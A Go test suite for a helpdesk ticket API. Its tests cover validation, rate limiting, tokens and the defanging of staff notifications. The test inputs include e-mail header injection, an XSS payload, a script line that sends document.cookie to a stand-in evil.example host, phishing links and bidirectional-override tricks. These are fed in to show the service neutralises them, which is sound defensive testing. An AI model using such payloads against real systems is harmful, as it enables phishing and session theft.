package helpdesk_test

import (
	"context"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/aws/aws-lambda-go/events"

	"github.com/checkin-registry/registry/shared/apitest"
	"github.com/checkin-registry/registry/shared/contact"
	"github.com/checkin-registry/registry/shared/contact/policy"
	"github.com/checkin-registry/registry/shared/token"
)

// TestSampleEvent opens a ticket from events/helpdesk.json, checks what is stored
// and that its token opens its status and nothing else.
func TestSampleEvent(t *testing.T) {
	hs := newHarness(t, nil)
	o := decodeOpened(t, hs.call(hs.h, sampleEvent(t, "helpdesk.json")))

	tickets := hs.items("ticket#")
	if len(tickets) != 1 {
		t.Fatalf("%d tickets stored, want 1", len(tickets))
	}
	tk := tickets[0]
	for field, want := range map[string]any{
		"id": o.TicketID, "name": "Siti Aminah", "topic": "qr-code", "channel": "email",
		"contact": "siti.aminah@gmail.com", "status": "received",
		"message":   "Our QR poster prints blank.\nPlease visit http://evil.example/login <b>now</b> to fix it.",
		"createdAt": float64(start.Unix()), "updatedAt": float64(start.Unix()),
	} {
		if tk[field] != want {
			t.Errorf("ticket %s = %v, want %v", field, tk[field], want)
		}
	}
	if h, _ := tk["ipHash"].(string); len(h) != 40 || strings.Contains(h, "198.51.100.23") {
		t.Errorf("ipHash = %q, want a 40-character keyed hash", h)
	}
	if h, _ := tk["contactHash"].(string); len(h) != 40 {
		t.Errorf("contactHash = %q, want a 40-character keyed hash", h)
	}
	if ttl, _ := tk["ttl"].(float64); int64(ttl) != start.Add(180*24*time.Hour).Unix() {
		t.Errorf("ttl = %v, want 180 days on", tk["ttl"])
	}
	audits := hs.items("audit#")
	if len(audits) != 1 || audits[0]["action"] != "helpdesk" || audits[0]["outcome"] != "not_sent" || audits[0]["subject"] != o.TicketID {
		t.Errorf("audit records = %v, want one helpdesk record, not_sent, for the ticket", audits)
	}
	if n := hs.outbox.Len(); n != 1 || len(hs.outbox.To(hs.topic)) != 1 {
		t.Fatalf("%d messages (%+v), want exactly one, to the staff topic", n, hs.outbox.Messages)
	}

	wantStatus(t, hs.status(o.TicketID, o.TicketToken), 200, "")
	body := apitest.Decode(t, hs.status(o.TicketID, o.TicketToken))
	if body["ticketId"] != o.TicketID || body["status"] != "received" || body["topic"] != "qr-code" || body["createdAt"] != "2026-11-24T10:00:00Z" {
		t.Errorf("status body = %v", body)
	}
	if _, ok := body["message"]; ok {
		t.Errorf("status body carries the message: %v", body)
	}
}

func TestStatusToken(t *testing.T) {
	hs := newHarness(t, nil)
	a := decodeOpened(t, hs.open("198.51.100.1", ticket("ali@gmail.com", "First question")))
	b := decodeOpened(t, hs.open("198.51.100.1", ticket("abu@gmail.com", "Second question")))
	issuer := token.Issuer{Key: hs.keys.Derive("ticket-token")}
	venueTok, _ := token.Issuer{Key: hs.keys.Derive("venue-token")}.Issue(token.Venue, a.TicketID, start, time.Hour)
	sameKeyVenue, _ := issuer.Issue(token.Venue, a.TicketID, start, time.Hour)
	gone, _ := issuer.Issue(token.Ticket, "abcdefghijklmnopqrstuvwxyz", start, time.Hour)
	for _, tt := range []struct {
		name, id, bearer string
		status           int
		code             string
	}{
		{"own token", a.TicketID, a.TicketToken, 200, ""},
		{"no token", a.TicketID, "", 401, "unauthorized"},
		{"forged token", a.TicketID, a.TicketToken[:len(a.TicketToken)-2] + "xx", 401, "unauthorized"},
		{"venue token", a.TicketID, venueTok, 401, "unauthorized"},
		{"ticket key, venue audience", a.TicketID, sameKeyVenue, 401, "unauthorized"},
		{"another ticket's token", a.TicketID, b.TicketToken, 403, "forbidden"},
		{"unknown id, another ticket's token", "abcdefghijklmnopqrstuvwxyz", a.TicketToken, 403, "forbidden"},
		{"unknown id, its own token", "abcdefghijklmnopqrstuvwxyz", gone, 404, "not_found"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			wantStatus(t, hs.status(tt.id, tt.bearer), tt.status, tt.code)
		})
	}
	hs.clock.Advance(30*24*time.Hour + time.Second)
	wantStatus(t, hs.status(a.TicketID, a.TicketToken), 401, "unauthorized")
}

func TestValidation(t *testing.T) {
	hs := newHarness(t, nil)
	long := strings.Repeat("a", 2001)
	for _, tt := range []struct {
		name   string
		body   any
		status int
		code   string
		field  string
	}{
		{"unknown field", map[string]any{"name": "Ali", "email": "ali@gmail.com", "topic": "other", "message": "hi", "to": "x@y.com"}, 400, "invalid_request", "to"},
		{"no name", map[string]any{"email": "ali@gmail.com", "topic": "other", "message": "hi"}, 400, "invalid_request", "name"},
		{"name too short", map[string]any{"name": "A", "email": "ali@gmail.com", "topic": "other", "message": "hi"}, 400, "invalid_request", "name"},
		{"header injection in name", map[string]any{"name": "Ali\r\nBcc: victim@gmail.com", "email": "ali@gmail.com", "topic": "other", "message": "hi"}, 400, "invalid_request", "name"},
		{"topic not on the list", map[string]any{"name": "Ali", "email": "ali@gmail.com", "topic": "free-money", "message": "hi"}, 400, "invalid_request", "topic"},
		{"no topic", map[string]any{"name": "Ali", "email": "ali@gmail.com", "message": "hi"}, 400, "invalid_request", "topic"},
		{"message over 2,000 characters", ticket("ali@gmail.com", long), 400, "invalid_request", "message"},
		{"empty message", ticket("ali@gmail.com", "   "), 400, "invalid_request", "message"},
		{"control character", ticket("ali@gmail.com", "bell\x07"), 400, "invalid_request", "message"},
		{"bidirectional override", ticket("ali@gmail.com", "invoice\u202Efdp.exe"), 400, "invalid_request", "message"},
		{"line separator", ticket("ali@gmail.com", "one\u2028two"), 400, "invalid_request", "message"},
		{"no contact", map[string]any{"name": "Ali", "topic": "other", "message": "hi"}, 400, "invalid_request", "phone"},
		{"both contacts", map[string]any{"name": "Ali", "email": "ali@gmail.com", "phone": "+60123456789", "topic": "other", "message": "hi"}, 400, "invalid_request", "email"},
		{"e-mail with a display name", ticket("Ali <ali@gmail.com>", "hi"), 400, "invalid_request", "email"},
		{"e-mail with CRLF", ticket("ali@gmail.com\r\nBcc: x@gmail.com", "hi"), 400, "invalid_request", "email"},
		{"IP-literal domain", ticket("ali@[127.0.0.1]", "hi"), 400, "invalid_request", "email"},
		{"disposable domain", ticket("ali@mailinator.com", "hi"), 422, "destination_not_allowed", "email"},
		{"foreign number", ticket("+14155550123", "hi"), 422, "destination_not_allowed", "phone"},
		{"malformed registration id", map[string]any{"name": "Ali", "email": "ali@gmail.com", "topic": "other", "message": "hi", "registrationId": "../../x"}, 400, "invalid_request", "registrationId"},
		{"body not JSON", "name=Ali", 400, "invalid_request", ""},
		{"altcha of the wrong type", map[string]any{"name": "Ali", "email": "ali@gmail.com", "topic": "other", "message": "hi", "altcha": 7}, 400, "invalid_request", "altcha"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			resp := hs.open("198.51.100.1", tt.body)
			wantStatus(t, resp, tt.status, tt.code)
			if tt.field != "" {
				fields, _ := apitest.Decode(t, resp)["error"].(map[string]any)["fields"].(map[string]any)
				if _, ok := fields[tt.field]; !ok {
					t.Fatalf("fields %v do not name %s", fields, tt.field)
				}
			}
		})
	}
	t.Run("wrong media type", func(t *testing.T) {
		req := apitest.Request("POST", "/v1/helpdesk/tickets", nil, ticket("ali@gmail.com", "hi"), "198.51.100.1")
		req.Headers["Content-Type"] = "text/plain"
		wantStatus(t, hs.call(hs.h, req), 415, "unsupported_media_type")
	})
	if n := len(hs.items("ticket#")); n != 0 || hs.outbox.Len() != 0 {
		t.Fatalf("%d tickets and %d messages after invalid requests, want none", n, hs.outbox.Len())
	}
	t.Run("2,000 characters, CRLF, tabs and emoji", func(t *testing.T) {
		msg := "Line one\r\nLine\ttwo 👩 💻\r" + strings.Repeat("é", 2000-22)
		o := decodeOpened(t, hs.open("198.51.100.1", ticket("ali@gmail.com", msg)))
		tk := hs.items("ticket#" + o.TicketID)
		if len(tk) != 1 || strings.Contains(tk[0]["message"].(string), "\r") || !strings.HasPrefix(tk[0]["message"].(string), "Line one\nLine\ttwo") {
			t.Fatalf("stored %v, want line breaks normalised to \\n", tk)
		}
	})
}

// TestStrangersGetNothing is the issue's done-when: one IP naming eight strangers
// opens five tickets and sends not one message to any of them; staff hear of each
// through the staff topic, with the spam inert.
func TestStrangersGetNothing(t *testing.T) {
	hs := newHarness(t, nil)
	const ip = "203.0.113.66"
	spam := "CONGRATULATIONS! You won RM 10,000. Claim now: https://bit.ly/claim-prize or www.free-prize.example"
	var created int
	for i := 0; i < 8; i++ {
		body := ticket(stranger(i), spam)
		if i%2 == 1 {
			body = ticket("+6012"+strings.Repeat(string(rune('1'+i)), 7), spam)
		}
		resp := hs.open(ip, body)
		if i < 5 {
			decodeOpened(t, resp)
			created++
			continue
		}
		wantStatus(t, resp, 429, "rate_limited")
		// The limit slides: the hour's end, then 12 minutes until the five tickets
		// of 10:00 weigh less than five (ceil(5 × 48/60) = 4).
		if resp.Headers["Retry-After"] != "4320" {
			t.Errorf("Retry-After = %q, want 4320", resp.Headers["Retry-After"])
		}
	}
	if n := len(hs.items("ticket#")); n != 5 || created != 5 {
		t.Fatalf("%d tickets stored, %d answered 201; want 5", n, created)
	}
	if other := hs.notTopic(); len(other) != 0 {
		t.Fatalf("messages to typed addresses: %+v", other)
	}
	staff := hs.outbox.To(hs.topic)
	if len(staff) != 5 {
		t.Fatalf("%d staff notifications, want 5", len(staff))
	}
	for _, m := range staff {
		wantInert(t, m.Body)
		if m.Channel != "topic" {
			t.Errorf("staff notification on channel %q, want topic", m.Channel)
		}
	}
	logs := hs.stack.Logs.String()
	for i := 0; i < 8; i++ {
		if strings.Contains(logs, stranger(i)) || strings.Contains(logs, "6012"+strings.Repeat(string(rune('1'+i)), 7)) {
			t.Fatalf("logs carry a full contact: %s", logs)
		}
	}
	// At 11:00 the five of 10:00 still fill the last hour; at 11:12 one may go again:
	// an injected clock, no sleep.
	hs.clock.Advance(time.Hour)
	wantStatus(t, hs.open(ip, ticket(stranger(9), spam)), 429, "rate_limited")
	hs.clock.Advance(12 * time.Minute)
	decodeOpened(t, hs.open(ip, ticket(stranger(10), spam)))
}

var (
	linkish = []*regexp.Regexp{
		regexp.MustCompile(`(?i)[a-z][a-z0-9+.-]*://`),
		regexp.MustCompile(`(?i)\b(javascript|mailto|data|tel|sms|file):\S`),
		regexp.MustCompile(`(?i)\b[a-z0-9-]+(\.|。|．|｡)[a-z0-9-]+\.?(com|net|org|ly|my|example|io|ru)\b`),
		regexp.MustCompile(`(?i)\b[a-z0-9-]+(\.|。|．|｡)(com|net|org|ly|my|example|io|ru)\b`),
		regexp.MustCompile(`(?i)www\.`),
		regexp.MustCompile(`\d+\.\d+\.\d+\.\d+`),
	}
)

// wantInert fails unless body holds nothing a mail client could make a link,
// an address, markup or a header of.
func wantInert(t *testing.T, body string) {
	t.Helper()
	for _, re := range linkish {
		if m := re.FindString(body); m != "" {
			t.Errorf("staff notification has %q (%s):\n%s", m, re, body)
		}
	}
	for _, bad := range []string{"<", ">", "@", "\r", "\u202E", "\u2028", "\x00", "http"} {
		if strings.Contains(body, bad) {
			t.Errorf("staff notification contains %q:\n%s", bad, body)
		}
	}
}

// TestStaffNotificationInert sends a message made of links, markup and header
// injection, and checks what staff receive on both fixed channels.
func TestStaffNotificationInert(t *testing.T) {
	hs := newHarness(t, map[string]string{"STAFF_EMAIL": "support@checkin.example"})
	msg := strings.Join([]string{
		"Dear support,\r\nBcc: victim@gmail.com\r\nSubject: You won\r\n\r\nContent-Type: text/html",
		`<a href="https://evil.example/phish">Verify your venue</a> <img src=x onerror=alert(1)>`,
		"<script>fetch('//evil.example/'+document.cookie)</script>",
		"Visit http://192.168.10.1/admin, HTTPS://EVIL.EXAMPLE, hxxp://x, ftp://files.evil.example",
		"javascript:alert(1) mailto:boss@evil.example tel:+60123456789 data:text/html;base64,PHNjcmlwdD4=",
		"[click here](evil.example/login) or evil。com or evil．com or user＠evil.example",
		"www.evil.example and plain evil.ru links",
	}, "\n")
	// A name that reads other than it is spelt is refused (text_test.go shows how
	// inert would render one); the notification names the requester as typed.
	body := ticket("ali@gmail.com", msg)
	body["name"] = "Ali \u202Emoc.live\u202C bin Abu"
	wantStatus(t, hs.open("198.51.100.1", body), 400, "invalid_request")
	body["name"] = "Ali moc.live bin Abu"
	o := decodeOpened(t, hs.open("198.51.100.1", body))

	if other := hs.notTopic(); len(other) != 1 || other[0].To != "support@checkin.example" || other[0].Channel != contact.Email {
		t.Fatalf("messages beside the topic: %+v, want one e-mail to the staff address", other)
	}
	staff := append(hs.outbox.To(hs.topic), hs.outbox.To("support@checkin.example")...)
	if len(staff) != 2 {
		t.Fatalf("%d staff messages, want one on the topic and one e-mail", len(staff))
	}
	for _, m := range staff {
		if want := "New helpdesk ticket " + o.TicketID + " (registration)"; m.Subject != want {
			t.Errorf("subject = %q, want the fixed %q", m.Subject, want)
		}
		if m.Unsubscribe != "" {
			t.Errorf("staff message carries a header from the request: %q", m.Unsubscribe)
		}
		wantInert(t, m.Body)
		for _, want := range []string{
			"  | Bcc: victim[at]gmail[.]com", "  | ‹script›", "hxxps[:]//evil[.]example/phish", "192[.]168[.]10[.]1",
			"javascript[:]alert(1)", "mailto[:]boss[at]evil[.]example", "evil[.]com", "[at]evil[.]example",
			"www[.]evil[.]example", "Name: Ali moc[.]live bin Abu", "Contact:  email a•••[at]gmail[.]com (NOT proven",
		} {
			if !strings.Contains(m.Body, want) {
				t.Errorf("staff notification lacks %q:\n%s", want, m.Body)
			}
		}
		// Every line the requester wrote is quoted: none can pass for the notification's own.
		for _, line := range strings.Split(m.Body, "\n") {
			if strings.HasPrefix(line, "Bcc") || strings.HasPrefix(line, "Subject") || strings.HasPrefix(line, "Content-Type") {
				t.Errorf("unquoted requester line %q", line)
			}
		}
	}
}

func TestConcurrentTicketsFromOneIP(t *testing.T) {
	hs := newHarness(t, nil)
	second := hs.instance(nil)
	const n = 20
	statuses := make([]int, n)
	var wg sync.WaitGroup
	for i := 0; i < n; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			h := hs.h
			if i%2 == 1 {
				h = second
			}
			resp, err := h.Handle(context.Background(), apitest.Request("POST", "/v1/helpdesk/tickets", nil, ticket(stranger(i), "Question number "+strings.Repeat("x", i+1)), "203.0.113.5"))
			if err != nil {
				t.Error(err)
				return
			}
			statuses[i] = resp.StatusCode
		}(i)
	}
	wg.Wait()
	count := map[int]int{}
	for _, s := range statuses {
		count[s]++
	}
	if count[201] != 5 || count[429] != 15 {
		t.Fatalf("statuses %v, want 5×201 and 15×429", count)
	}
	if got := hs.items("ticket#"); len(got) != 5 {
		t.Fatalf("%d tickets stored, want 5: %v; statuses %v", len(got), got, statuses)
	}
	if got := len(hs.outbox.To(hs.topic)); got != 5 || hs.outbox.Len() != 5 {
		t.Fatalf("%d staff notifications of %d messages, want 5 of 5", got, hs.outbox.Len())
	}
	// The helpdesk's counters are its own: none of register's.
	if reg := hs.items("rl#ip#"); len(reg) != 0 {
		t.Fatalf("helpdesk wrote register's IP counters: %v", reg)
	}
	if own := hs.items("rl#helpdesk-ip#"); len(own) != 1 || own[0]["n"] != float64(5) {
		t.Fatalf("helpdesk IP counters %v, want one at 5", own)
	}
}

func TestRepeatedMessageCollapses(t *testing.T) {
	hs := newHarness(t, nil)
	first := decodeOpened(t, hs.open("198.51.100.1", ticket("Ali.Abu@gmail.com", "My QR code  does not scan.")))
	for i, tt := range []struct{ who, msg string }{
		{"Ali.Abu@gmail.com", "My QR code  does not scan."},
		{"aliabu+help@gmail.com", "my qr code does not scan."},
		{"ALIABU@googlemail.com", "  My QR code\ndoes not\tscan.  "},
	} {
		// From another client: the same ticket, and no token to read it with.
		resp := hs.open(spread(i), ticket(tt.who, tt.msg))
		wantStatus(t, resp, 201, "")
		got := apitest.Decode(t, resp)
		if got["ticketId"] != first.TicketID || got["ticketToken"] != nil {
			t.Fatalf("repeat %d from another client = %s; want the first ticket %s and no token", i, resp.Body, first.TicketID)
		}
	}
	// From the client that opened it: the ticket and a working token.
	again := decodeOpened(t, hs.open("198.51.100.1", ticket("ali.abu@gmail.com", "my qr code does not scan.")))
	if again.TicketID != first.TicketID {
		t.Fatalf("repeat from the opener opened %s, want %s", again.TicketID, first.TicketID)
	}
	wantStatus(t, hs.status(first.TicketID, again.TicketToken), 200, "")
	// Concurrent repeats of a new message: one ticket, and all answer it.
	var wg sync.WaitGroup
	ids := make([]string, 6)
	for i := range ids {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			resp, _ := hs.h.Handle(context.Background(), apitest.Request("POST", "/v1/helpdesk/tickets", nil, ticket("siti@gmail.com", "Same words at once"), spread(10+i)))
			ids[i] = apitest.Decode(t, resp)["ticketId"].(string)
		}(i)
	}
	wg.Wait()
	for _, id := range ids {
		if id != ids[0] {
			t.Fatalf("concurrent repeats answered tickets %v, want one", ids)
		}
	}
	if n := len(hs.items("ticket#")); n != 2 || hs.outbox.Len() != 2 {
		t.Fatalf("%d tickets and %d messages, want 2 and 2", n, hs.outbox.Len())
	}
	// Another contact with the same words opens a ticket of its own.
	if o := decodeOpened(t, hs.open("198.51.100.1", ticket("abu@gmail.com", "My QR code does not scan."))); o.TicketID == first.TicketID {
		t.Fatal("another contact's message collapsed into the first ticket")
	}
}

func TestContactAndGlobalLimits(t *testing.T) {
	t.Run("per contact", func(t *testing.T) {
		hs := newHarness(t, nil)
		for i := 0; i < 3; i++ {
			decodeOpened(t, hs.open(spread(i), ticket("ali@gmail.com", "Question "+strings.Repeat("?", i+1))))
		}
		resp := hs.open(spread(3), ticket("a.li+x@gmail.com", "Another question"))
		wantStatus(t, resp, 429, "rate_limited")
		hs.clock.Advance(24 * time.Hour)
		decodeOpened(t, hs.open(spread(4), ticket("ali@gmail.com", "Another question")))
	})
	t.Run("global", func(t *testing.T) {
		hs := newHarness(t, map[string]string{"HELPDESK_GLOBAL_MAX": "3"})
		for i := 0; i < 3; i++ {
			decodeOpened(t, hs.open(spread(i), ticket(stranger(i), "Question")))
		}
		resp := hs.open(spread(3), ticket(stranger(3), "Question"))
		wantStatus(t, resp, 503, "temporarily_unavailable")
		// The three count whole through the next hour too: none is taken until
		// the hour after it, so no hour ever takes more than 3.
		if resp.Headers["Retry-After"] != "7200" {
			t.Fatalf("Retry-After = %q, want 7200", resp.Headers["Retry-After"])
		}
		if !strings.Contains(hs.stack.Metrics.String(), `"Limit":"helpdesk_global"`) {
			t.Fatalf("no TicketRefused metric for the global limit: %s", hs.stack.Metrics.String())
		}
	})
	// A ticket with a valid token for the venue it names is an owner's: strangers'
	// flood does not refuse it, and it takes nothing of strangers' share.
	t.Run("global, venue owners", func(t *testing.T) {
		hs := newHarness(t, map[string]string{"HELPDESK_GLOBAL_MAX": "3"})
		d := contact.Destination{Channel: contact.Email, Address: "ali@gmail.com", Key: "email:ali@gmail.com"}
		venueID := hs.venue(d)
		tok, _ := token.VenueIssuer(hs.keys).Issue(token.Venue, venueID, hs.clock.Now(), time.Hour)
		owner := func(ip, bearer, message string) events.APIGatewayProxyResponse {
			body := ticket("ali@gmail.com", message)
			body["venueId"] = venueID
			req := apitest.Request("POST", "/v1/helpdesk/tickets", nil, body, ip)
			req.Headers["Authorization"] = "Bearer " + bearer
			return hs.call(hs.h, req)
		}
		decodeOpened(t, owner(spread(10), tok, "My poster"))
		for i := 0; i < 3; i++ {
			decodeOpened(t, hs.open(spread(i), ticket(stranger(i), "Question")))
		}
		wantStatus(t, hs.open(spread(3), ticket(stranger(3), "Question")), 503, "temporarily_unavailable")
		decodeOpened(t, owner(spread(11), tok, "My QR code"))
		// A forged token, or one for another venue, is a stranger's ticket.
		other, _ := token.VenueIssuer(hs.keys).Issue(token.Venue, "someothervenue00000000000", hs.clock.Now(), time.Hour)
		wantStatus(t, owner(spread(12), other, "My address"), 503, "temporarily_unavailable")
		wantStatus(t, owner(spread(13), tok+"x", "My name"), 503, "temporarily_unavailable")
	})
	t.Run("per network", func(t *testing.T) {
		hs := newHarness(t, map[string]string{"HELPDESK_NETWORK_MAX": "2"})
		decodeOpened(t, hs.open("203.0.113.1", ticket(stranger(1), "Question")))
		decodeOpened(t, hs.open("203.0.113.2", ticket(stranger(2), "Question")))
		wantStatus(t, hs.open("203.0.113.3", ticket(stranger(3), "Question")), 429, "rate_limited")
	})
}

func TestProofOfWork(t *testing.T) {
	for _, m := range []string{"elevated", "lockdown"} {
		t.Run(m, func(t *testing.T) {
			hs := newHarness(t, nil)
			hs.setMode(m)
			wantStatus(t, hs.open("198.51.100.1", ticket("ali@gmail.com", "Help")), 428, "challenge_required")
			body := ticket("ali@gmail.com", "Help")
			body["altcha"] = "bm90IGEgc29sdXRpb24="
			wantStatus(t, hs.open("198.51.100.1", body), 428, "challenge_required")
			solved := hs.solve()
			body["altcha"] = solved
			decodeOpened(t, hs.open("198.51.100.1", body))
			again := ticket("abu@gmail.com", "Help again")
			again["altcha"] = solved
			wantStatus(t, hs.open("198.51.100.1", again), 428, "challenge_required")
			if n := len(hs.items("ticket#")); n != 1 {
				t.Fatalf("%d tickets, want 1", n)
			}
		})
	}
	t.Run("normal mode needs none", func(t *testing.T) {
		hs := newHarness(t, nil)
		hs.setMode("normal")
		decodeOpened(t, hs.open("198.51.100.1", ticket("ali@gmail.com", "Help")))
	})
}

// TestAcknowledgement: the one message that may reach a typed contact is a fixed
// e-mail, to an address a venue proved and did not opt out.
func TestAcknowledgement(t *testing.T) {
	hs := newHarness(t, nil)
	p := contact.Policy{Email: contact.EmailPolicy{}, Phone: policy.Phone{DefaultRegion: "MY", Regions: []string{"MY"}, Types: []policy.PhoneType{policy.Mobile}}}
	owner, _ := p.Email.Email("owner.ali@gmail.com")
	optedOut, _ := p.Email.Email("gone@gmail.com")
	phoneOwner, _ := p.Phone.Phone("+60123456789")
	ownerVenue := hs.venue(owner)
	hs.venue(optedOut)
	hs.suppress(optedOut)
	hs.venue(phoneOwner)
	const marker = "UNIQUE-TYPED-TEXT http://evil.example"

	body := ticket("OwnerAli+help@gmail.com", marker)
	body["name"] = "Typed Name Marker"
	o := decodeOpened(t, hs.open("198.51.100.1", body))
	acks := hs.outbox.To("owner.ali@gmail.com")
	if len(acks) != 1 {
		t.Fatalf("%d acknowledgements to the proven address, want 1 (outbox %+v)", len(acks), hs.outbox.Messages)
	}
	ack := acks[0]
	if !strings.Contains(ack.Body, o.TicketID) || strings.Contains(ack.Body, "UNIQUE") || strings.Contains(ack.Body, "Marker") || strings.Contains(ack.Subject, "Marker") {
		t.Fatalf("acknowledgement carries typed text or lacks the reference: %+v", ack)
	}
	if n := len(hs.outbox.To("OwnerAli+help@gmail.com")); n != 0 {
		t.Fatalf("%d messages to the address as typed, want 0", n)
	}
	tk := hs.items("ticket#" + o.TicketID)[0]
	if tk["contactVenueId"] != ownerVenue || tk["acknowledged"] != true {
		t.Fatalf("ticket %v, want it linked to venue %s and acknowledged", tk, ownerVenue)
	}
	staff := hs.outbox.To(hs.topic)
	if len(staff) != 1 || !strings.Contains(staff[0].Body, "proven by venue "+ownerVenue) {
		t.Fatalf("staff notification does not say the contact is proven: %+v", staff)
	}

	hs.outbox.Messages = nil
	decodeOpened(t, hs.open("198.51.100.1", ticket("gone@gmail.com", marker)))
	decodeOpened(t, hs.open("198.51.100.1", ticket("+60123456789", marker)))
	decodeOpened(t, hs.open("198.51.100.1", ticket("someone.else@gmail.com", marker)))
	if other := hs.notTopic(); len(other) != 0 {
		t.Fatalf("messages to an opted-out, a phone or an unproven contact: %+v", other)
	}
	outcomes := map[string]int{}
	for _, a := range hs.items("audit#") {
		outcomes[a["outcome"].(string)]++
	}
	if outcomes["sent"] != 1 || outcomes["suppressed"] != 1 || outcomes["not_sent"] != 2 {
		t.Fatalf("audit outcomes %v, want sent 1, suppressed 1, not_sent 2", outcomes)
	}
}

// TestCost measures what one ticket costs: DynamoDB calls and messages.
func TestCost(t *testing.T) {
	hs := newHarness(t, nil)
	decodeOpened(t, hs.open("198.51.100.1", ticket("warm@gmail.com", "Warm the mode cache")))
	for _, tt := range []struct {
		name     string
		body     map[string]any
		ip       string
		calls    int
		messages int
	}{
		{"new ticket", ticket("ali@gmail.com", "How do I print my poster?"), "198.51.100.2", 2, 1},
		{"repeat", ticket("ali@gmail.com", "How do I print my poster?"), "198.51.100.2", 2, 0},
	} {
		hs.db.Reset()
		before := hs.outbox.Len()
		decodeOpened(t, hs.open(tt.ip, tt.body))
		calls, by := hs.db.Calls()
		t.Logf("%s: %d DynamoDB calls %v, %d messages", tt.name, calls, by, hs.outbox.Len()-before)
		if calls != tt.calls || hs.outbox.Len()-before != tt.messages {
			t.Errorf("%s: %d calls %v and %d messages, want %d and %d", tt.name, calls, by, hs.outbox.Len()-before, tt.calls, tt.messages)
		}
	}
	for i := 0; i < 5; i++ {
		decodeOpened(t, hs.open("198.51.100.9", ticket(stranger(i), "Filler")))
	}
	hs.db.Reset()
	wantStatus(t, hs.open("198.51.100.9", ticket(stranger(9), "Over the limit")), 429, "rate_limited")
	if calls, by := hs.db.Calls(); calls != 1 {
		t.Errorf("refused request: %d calls %v, want 1", calls, by)
	}
}
